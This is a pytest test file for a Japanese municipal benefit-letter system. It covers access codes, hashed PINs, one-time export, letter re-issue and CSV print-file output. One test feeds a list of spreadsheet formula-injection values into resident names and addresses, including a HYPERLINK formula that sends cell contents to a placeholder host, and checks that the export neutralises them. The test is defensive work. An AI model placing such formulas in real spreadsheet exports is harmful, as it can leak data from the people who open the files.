"""Letters: typable access codes, keyed PIN hashes, export exactly once, re-issue invalidates the old code."""

from __future__ import annotations

import csv
import datetime as dt
import io

import asyncpg
import pytest

from app import csvsafe
from app.registry.eligibility import determine_eligibility
from app.registry.imports import import_residents
from app.registry.letters import (
    ALPHABET,
    InvalidAccessCode,
    check_symbol,
    export_letters,
    format_access_code,
    issue_letters,
    new_access_code,
    normalise_access_code,
    reissue_letter,
)
from app.registry.pins import pin_key, pin_matches
from app.registry.programs import create_program, parse_program
from app.tenancy.transaction import tenant_transaction
from tests.conftest import run_cli
from tests.registry.helpers import person, residents_csv


def test_access_codes_are_typable_and_catch_single_typos():
    code = new_access_code()
    assert len(code) == 12 and set(code) <= set(ALPHABET)
    shown = format_access_code(code)
    assert normalise_access_code(shown.lower().replace("-", " ")) == code
    assert normalise_access_code(shown.replace("1", "I").replace("0", "O")) == code
    for i in range(12):
        for wrong in "0Z":
            typo = code[:i] + wrong + code[i + 1 :]
            if typo != code:
                with pytest.raises(InvalidAccessCode):
                    normalise_access_code(typo)
    assert check_symbol("0000000000") == "0"


async def _letter_program(app_pool, code, households=3):
    rows = [person(household_no=f"{i}") for i in range(households)]
    async with tenant_transaction(app_pool, code) as conn:
        await import_residents(conn, code, residents_csv(rows))
        program_id = await create_program(
            conn,
            code,
            parse_program(
                dict(
                    name="確認書型",
                    base_date=dt.date(2026, 4, 1),
                    unit="household",
                    amount_yen=30000,
                    payment_mode="letter",
                )
            ),
        )
        await determine_eligibility(conn, code, program_id)
    return program_id, rows


async def test_issue_export_once_and_pins_only_as_keyed_hashes(app_pool, code, cipher):
    program_id, rows = await _letter_program(app_pool, code)
    async with tenant_transaction(app_pool, code) as conn:
        issued = await issue_letters(conn, cipher, code, program_id, "test")
        assert await issue_letters(conn, cipher, code, program_id, "test") == []  # one letter per entitlement
        stored = {r["access_code"]: r for r in await conn.fetch("SELECT * FROM letters")}
    assert len(issued) == 3 and len(stored) == 3
    key = pin_key(cipher)
    for letter in issued:
        assert pin_matches(key, letter.access_code, letter.pin, stored[letter.access_code]["pin_hash"])
        assert not pin_matches(key, letter.access_code, "x" + letter.pin[1:], stored[letter.access_code]["pin_hash"])
    async with tenant_transaction(app_pool, code) as conn:
        lines = await export_letters(conn, cipher, code, program_id, "test")
    assert sorted((line[0], line[1]) for line in lines) == sorted(
        (format_access_code(i.access_code), i.pin) for i in issued
    )
    assert {line[3] for line in lines} == {"東京都千代田区1-1"} and {line[6] for line in lines} == {"30000"}
    async with tenant_transaction(app_pool, code) as conn:
        assert await export_letters(conn, cipher, code, program_id, "test") == []
        left = await conn.fetchval("SELECT count(*) FROM letters WHERE pin_enc IS NOT NULL OR exported_at IS NULL")
        events = [
            r[0] for r in await conn.fetch("SELECT action FROM audit_log WHERE action LIKE 'letters.%' ORDER BY seq")
        ]
    assert left == 0
    assert events == ["letters.issue", "letters.issue", "letters.export", "letters.export"]


async def test_reissue_invalidates_the_old_code_and_only_one_letter_is_valid(app_pool, code, cipher):
    program_id, _ = await _letter_program(app_pool, code, households=1)
    async with tenant_transaction(app_pool, code) as conn:
        [old] = await issue_letters(conn, cipher, code, program_id, "test")
        await export_letters(conn, cipher, code, program_id, "test")
        new = await reissue_letter(conn, cipher, code, old.entitlement_id, "staff:1")
        rows = {r["access_code"]: r for r in await conn.fetch("SELECT * FROM letters")}
        lines = await export_letters(conn, cipher, code, program_id, "test")
    assert new.access_code != old.access_code
    assert rows[old.access_code]["invalidated_at"] is not None and rows[new.access_code]["invalidated_at"] is None
    assert [(line[0], line[1]) for line in lines] == [(format_access_code(new.access_code), new.pin)]
    # The database itself refuses a second valid letter for the entitlement.
    with pytest.raises(asyncpg.UniqueViolationError):
        async with tenant_transaction(app_pool, code) as conn:
            await conn.execute("UPDATE letters SET invalidated_at = NULL WHERE access_code = $1", old.access_code)


def test_export_csv_header_is_documented():
    from app.registry.letters import EXPORT_HEADER

    buf = io.StringIO()
    csv.writer(buf).writerow(EXPORT_HEADER)
    assert buf.getvalue().startswith("確認書番号,暗証番号,種別,住所,世帯主氏名")


HOSTILE = ['=HYPERLINK("http://x"&A1,"x")', "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "＝1+1"]


@pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
async def test_the_print_file_from_kyufu_letters_export_carries_no_formula(
    app_pool, code, subprocess_env, tmp_path, encoding
):
    """Addresses and names come from the registry extract; in the print file a spreadsheet must read them as text."""
    rows = [person(household_no=f"F{i}", address=value, family_name=value) for i, value in enumerate(HOSTILE)]
    async with tenant_transaction(app_pool, code) as conn:
        await import_residents(conn, code, residents_csv(rows))
        program_id = await create_program(
            conn,
            code,
            parse_program(
                dict(
                    name="確認書型",
                    base_date=dt.date(2026, 4, 1),
                    unit="household",
                    amount_yen=30000,
                    payment_mode="letter",
                )
            ),
        )
        await determine_eligibility(conn, code, program_id)
    r = run_cli(subprocess_env, "letters", "issue", "--municipality", code, "--program", str(program_id))
    assert r.returncode == 0, r.stderr
    out = tmp_path / "print.csv"
    r = run_cli(
        subprocess_env,
        "letters",
        "export",
        "--municipality",
        code,
        "--program",
        str(program_id),
        "--out",
        str(out),
        "--encoding",
        encoding,
    )
    assert r.returncode == 0, r.stderr
    text = out.read_bytes().decode("utf-8-sig" if encoding == "utf-8" else "cp932")
    header, *lines = csv.reader(io.StringIO(text, newline=""))
    col = {name: i for i, name in enumerate(header)}
    assert sorted(line[col["住所"]] for line in lines) == sorted("'" + value for value in HOSTILE)
    assert sorted(line[col["世帯主氏名"]] for line in lines) == sorted(f"'{value} 太郎" for value in HOSTILE)
    for line in lines:
        assert all(not cell or cell[0] not in csvsafe.TRIGGERS for cell in line), line
        assert line[col["支給額"]] == "30000" and line[col["世帯番号"]].startswith("F")
